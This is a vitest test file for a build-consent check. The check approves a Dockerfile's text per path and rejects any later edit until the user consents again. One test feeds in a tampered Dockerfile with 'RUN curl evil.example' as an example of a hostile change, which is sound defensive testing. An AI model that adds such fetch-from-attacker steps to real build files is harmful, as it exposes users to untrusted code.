import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { requireBuildConsent } from '../../../controller/project-file/build-consent.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'sand-consent-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const consent = (text: string, isConsented = false, path = '/repo/Dockerfile') =>
  requireBuildConsent({ build: { path, text, context: '/repo' }, isConsented, folder, environ: { CI: '1' } });

describe('requireBuildConsent', () => {
  it('takes the first Dockerfile of a file that was named, and it again', async () => {
    await consent('FROM a\n');
    await consent('FROM a\n');
  });

  it('refuses another text of the same place, which a guest may have written', async () => {
    await consent('FROM a\n');
    await expect(consent('FROM a\nRUN curl evil.example\n')).rejects.toMatchObject({
      code: 'build-unapproved',
      message: expect.stringContaining('/repo/Dockerfile has changed since it was approved'),
    });
    await consent('FROM b\n', false, '/other/Dockerfile');
  });

  it('takes what somebody has just said yes to, and from then on', async () => {
    await consent('FROM a\n');
    await consent('FROM b\n', true);
    await consent('FROM b\n');
    await expect(consent('FROM c\n')).rejects.toMatchObject({ code: 'build-unapproved' });
  });
});
